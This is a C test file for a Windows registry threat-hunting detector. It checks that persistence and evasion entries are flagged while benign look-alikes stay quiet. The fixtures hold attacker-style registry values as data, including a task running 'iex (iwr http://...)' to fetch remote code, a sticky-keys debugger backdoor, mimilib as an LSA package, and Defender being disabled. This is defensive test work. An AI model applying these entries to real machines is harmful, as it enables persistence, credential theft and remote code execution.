/* The hive checks on golden lines as the registry reader writes them
 * (hunt/hive_child.c): each way back in must be found, and its benign
 * look-alike (a task with its security descriptor, a Run key in Program
 * Files, a service of Windows) stay informational or unreported. */
#include "hunt/detect.h"
#include "check.h"
#include <stdio.h>
#include <string.h>

#define TREE "Microsoft\\\\Windows NT\\\\CurrentVersion\\\\Schedule\\\\TaskCache\\\\Tree"
#define RUN "Microsoft\\\\Windows\\\\CurrentVersion\\\\Run"
#define SVC "ControlSet001\\\\Services"
#define WIN "Microsoft\\\\Windows NT\\\\CurrentVersion\\\\Windows"

static const struct {
	const char *name, *lines, *kind; /* kind NULL: nothing above info */
} cases[] = {
    {"hidden task",
     "K\t" TREE "\\\\Updater\t2022-04-12T10:00:00Z\n"
     "V\t" TREE "\\\\Updater\tId\t1\t{5A1}\n"
     "V\t" TREE "\\\\Updater\tIndex\t4\t3\n",
     "hidden-task"},
    {"task hidden by removing its Index",
     "K\t" TREE "\\\\Sync\t2022-04-12T10:00:00Z\n"
     "V\t" TREE "\\\\Sync\tSD\t3\t\n"
     "V\t" TREE "\\\\Sync\tId\t1\t{5A3}\n",
     "hidden-task"},
    {"visible task",
     "K\t" TREE "\\\\Backup\t2022-04-12T10:00:00Z\n"
     "V\t" TREE "\\\\Backup\tSD\t3\t\n"
     "V\t" TREE "\\\\Backup\tId\t1\t{5A2}\n"
     "V\t" TREE "\\\\Backup\tIndex\t4\t3\n",
     NULL},
    {"task folder (no Id)", "K\t" TREE "\\\\Microsoft\t2022-04-12T10:00:00Z\n",
     NULL},
    {"a port forwarded into the network (netsh portproxy)",
     "K\t" SVC "\\\\PortProxy\\\\v4tov4\\\\tcp\t2021-09-15T10:00:00Z\n"
     "V\t" SVC "\\\\PortProxy\\\\v4tov4\\\\tcp\t0.0.0.0/3390\t1\t"
     "10.0.0.9/3389\n",
     "port-proxy"},
    {"a password filter LSA loads",
     "K\tControlSet001\\\\Control\\\\Lsa\t2021-09-15T10:00:00Z\n"
     "V\tControlSet001\\\\Control\\\\Lsa\tNotification Packages\t7\t"
     "scecli;rassfm;pwfilt\n",
     "lsa-package"},
    {"LSA's own packages",
     "K\tControlSet001\\\\Control\\\\Lsa\t2021-09-15T10:00:00Z\n"
     "V\tControlSet001\\\\Control\\\\Lsa\tNotification Packages\t7\t"
     "scecli\n"
     "V\tControlSet001\\\\Control\\\\Lsa\tSecurity Packages\t7\t"
     "kerberos;msv1_0;schannel;wdigest;tspkg;pku2u\n",
     NULL},
    {"mimilib as a security package",
     "K\tControlSet001\\\\Control\\\\Lsa\t2021-09-15T10:00:00Z\n"
     "V\tControlSet001\\\\Control\\\\Lsa\tSecurity Packages\t7\t"
     "kerberos;msv1_0;mimilib\n",
     "lsa-package"},
    {"Run key in ProgramData",
     "K\t" RUN "\t2021-03-04T00:00:00Z\n"
     "V\t" RUN "\tsvchost\t1\tC:\\\\ProgramData\\\\svchost.exe\n",
     "run-key"},
    {"Run key in the user's local AppData, by variable",
     "K\t" RUN "\t2021-03-04T00:00:00Z\n"
     "V\t" RUN "\tOneDriveSync\t2\t%LOCALAPPDATA%\\\\Sync\\\\sync.exe\n",
     "run-key"},
    {"RunServices starting a script",
     "K\tMicrosoft\\\\Windows\\\\CurrentVersion\\\\RunServices\t\n"
     "V\tMicrosoft\\\\Windows\\\\CurrentVersion\\\\RunServices\tupd\t1\t"
     "wscript.exe C:\\\\Windows\\\\Debug\\\\u.vbs\n",
     "run-key"},
    {"Run key in Program Files",
     "K\t" RUN "\t2021-03-04T00:00:00Z\n"
     "V\t" RUN "\tVMware\t1\t\"C:\\\\Program Files\\\\VMware\\\\vmtoolsd.exe\" "
     "-n vmusr\n",
     NULL},
    {"service running cmd",
     "K\t" SVC "\\\\WinUpd\t2021-03-04T00:00:00Z\n"
     "V\t" SVC
     "\\\\WinUpd\tImagePath\t2\tcmd.exe /c C:\\\\Windows\\\\Temp\\\\a.bat\n",
     "service-image"},
    {"a Windows service",
     "K\t" SVC "\\\\W32Time\t2021-03-04T00:00:00Z\n"
     "V\t" SVC "\\\\W32Time\tImagePath\t2\t%SystemRoot%\\\\system32\\\\svchost."
     "exe -k LocalService\n",
     NULL},
    {"Defender told to skip ProgramData",
     "K\tMicrosoft\\\\Windows Defender\\\\Exclusions\\\\Paths\t\n"
     "V\tMicrosoft\\\\Windows Defender\\\\Exclusions\\\\Paths\t"
     "C:\\\\ProgramData\t4\t0\n",
     "defender-exclusion"},
    {"Defender told to skip Exchange's mailbox databases",
     "K\tMicrosoft\\\\Windows Defender\\\\Exclusions\\\\Paths\t\n"
     "V\tMicrosoft\\\\Windows Defender\\\\Exclusions\\\\Paths\t"
     "D:\\\\Program Files\\\\Microsoft\\\\Exchange Server\\\\V15\\\\Mailbox"
     "\t4\t0\n"
     "V\tMicrosoft\\\\Windows Defender\\\\Exclusions\\\\Extensions\t"
     ".edb\t4\t0\n",
     NULL},
    {"Defender switched off by policy",
     "K\tPolicies\\\\Microsoft\\\\Windows Defender\t\n"
     "V\tPolicies\\\\Microsoft\\\\Windows Defender\tDisableAntiSpyware\t4\t"
     "1\n",
     "defender-disabled"},
    {"WDigest on",
     "K\tControlSet001\\\\Control\\\\SecurityProviders\\\\WDigest\t\n"
     "V\tControlSet001\\\\Control\\\\SecurityProviders\\\\WDigest\tUseLogonCred"
     "ential\t4\t1\n",
     "wdigest-enabled"},
    {"WDigest off",
     "K\tControlSet001\\\\Control\\\\SecurityProviders\\\\WDigest\t\n"
     "V\tControlSet001\\\\Control\\\\SecurityProviders\\\\WDigest\tUseLogonCred"
     "ential\t4\t0\n",
     NULL},
    {"AppInit loaded",
     "K\t" WIN "\t\nV\t" WIN "\tAppInit_DLLs\t1\tC:\\\\x\\\\hook.dll\n"
     "V\t" WIN "\tLoadAppInit_DLLs\t4\t1\n",
     "appinit-dlls"},
    {"AppInit set, not loaded",
     "K\t" WIN "\t\nV\t" WIN "\tAppInit_DLLs\t1\tC:\\\\x\\\\hook.dll\n"
     "V\t" WIN "\tLoadAppInit_DLLs\t4\t0\n",
     NULL},
    {"debugger on sethc",
     "K\tMicrosoft\\\\Windows NT\\\\CurrentVersion\\\\Image File Execution "
     "Options\\\\sethc.exe\t\n"
     "V\tMicrosoft\\\\Windows NT\\\\CurrentVersion\\\\Image File Execution "
     "Options\\\\sethc.exe\tDebugger\t1\tC:\\\\Windows\\\\System32\\\\cmd."
     "exe\n",
     "ifeo-debugger"},
    {"Amcache: a tool run from ProgramData",
     "K\tRoot\\\\InventoryApplicationFile\\\\p.exe|1a2b\t2021-03-04T00:00:00Z\n"
     "V\tRoot\\\\InventoryApplicationFile\\\\p.exe|1a2b\tLowerCaseLongPath\t1\t"
     "c:\\\\programdata\\\\p.exe\n",
     "program-ran-from-odd-folder"},
    {"Amcache: a program from Program Files",
     "K\tRoot\\\\InventoryApplicationFile\\\\v.exe|1\t2021-03-04T00:00:00Z\n"
     "V\tRoot\\\\InventoryApplicationFile\\\\v.exe|1\tLowerCaseLongPath\t1\t"
     "c:\\\\program files\\\\veeam\\\\v.exe\n",
     NULL},
    {"Windows' own task running its own script (Server Manager)",
     "K\tMicrosoft\\\\Windows "
     "NT\\\\CurrentVersion\\\\Schedule\\\\TaskCache\\\\Tasks\\\\{A1}\t\n"
     "V\tMicrosoft\\\\Windows "
     "NT\\\\CurrentVersion\\\\Schedule\\\\TaskCache\\\\Tasks\\\\{A1}"
     "\tActions\t3\t"
     "%systemroot%\\\\system32\\\\cscript.exe /B /nologo "
     "%systemroot%\\\\system32\\\\calluxxprovider.vbs $(Arg0) $(Arg1) "
     "$(Arg2)\n",
     NULL},
    {"a task running PowerShell on a script in System32",
     "K\tMicrosoft\\\\Windows "
     "NT\\\\CurrentVersion\\\\Schedule\\\\TaskCache\\\\Tasks\\\\{A4}\t\n"
     "V\tMicrosoft\\\\Windows "
     "NT\\\\CurrentVersion\\\\Schedule\\\\TaskCache\\\\Tasks\\\\{A4}"
     "\tActions\t3\t"
     "%windir%\\\\system32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe "
     "-ep bypass -File %windir%\\\\system32\\\\wupd.ps1\n",
     "task-action"},
    {"Windows' own network trace task (gatherNetworkInfo.vbs)",
     "K\tMicrosoft\\\\Windows "
     "NT\\\\CurrentVersion\\\\Schedule\\\\TaskCache\\\\Tasks\\\\{A5}\t\n"
     "V\tMicrosoft\\\\Windows "
     "NT\\\\CurrentVersion\\\\Schedule\\\\TaskCache\\\\Tasks\\\\{A5}"
     "\tActions\t3\t"
     "%windir%\\\\system32\\\\cscript.exe /B /nologo "
     "%windir%\\\\system32\\\\gatherNetworkInfo.vbs\n",
     NULL},
    {"a task running cscript on a script in ProgramData",
     "K\tMicrosoft\\\\Windows "
     "NT\\\\CurrentVersion\\\\Schedule\\\\TaskCache\\\\Tasks\\\\{A2}\t\n"
     "V\tMicrosoft\\\\Windows "
     "NT\\\\CurrentVersion\\\\Schedule\\\\TaskCache\\\\Tasks\\\\{A2}"
     "\tActions\t3\t"
     "%systemroot%\\\\system32\\\\cscript.exe /B C:\\\\ProgramData\\\\u.vbs\n",
     "task-action"},
    {"a task running cscript on a script of System32, downloaded",
     "K\tMicrosoft\\\\Windows "
     "NT\\\\CurrentVersion\\\\Schedule\\\\TaskCache\\\\Tasks\\\\{A3}\t\n"
     "V\tMicrosoft\\\\Windows "
     "NT\\\\CurrentVersion\\\\Schedule\\\\TaskCache\\\\Tasks\\\\{A3}"
     "\tActions\t3\t"
     "%windir%\\\\system32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe -c "
     "iex (iwr http://198.51.100.9/a)\n",
     "task-action"},
    {"a local account hidden from net user",
     "K\tSAM\\\\Domains\\\\Account\\\\Users\\\\Names\\\\support$\t"
     "2021-03-05T02:00:00Z\n",
     "hidden-account"},
    {"a local account",
     "K\tSAM\\\\Domains\\\\Account\\\\Users\\\\Names\\\\backup\t"
     "2021-03-05T02:00:00Z\n",
     NULL},
    {"malformed lines",
     "K\nV\t\t\nS\tx\n\\\\\t\t\t\t\t\t\nK\t\\\\TaskCache\\\\Tree\\\\\n", NULL},
};

int main(void)
{
	size_t i, k;

	for (i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		struct hunt h = {.root = "t"};
		size_t hits = 0;
		detect_hive_lines(&h, "SOFTWARE", cases[i].lines,
		                  strlen(cases[i].lines));
		for (k = 0; k < h.nf; k++) {
			if (h.f[k].sev <= SEV_INFO)
				continue;
			hits++;
			if (!cases[i].kind || strcmp(h.f[k].kind, cases[i].kind)) {
				fprintf(stderr, "%s: unexpected %s: %s\n",
				        cases[i].name, h.f[k].kind, h.f[k].detail);
				CHECK(0);
			}
		}
		if (hits != (cases[i].kind ? 1u : 0u))
			fprintf(stderr, "%s: %zu findings, want %d\n",
			        cases[i].name, hits, cases[i].kind ? 1 : 0);
		CHECK(hits == (cases[i].kind ? 1u : 0u));
		hunt_release(&h);
	}
	return check_done();
}
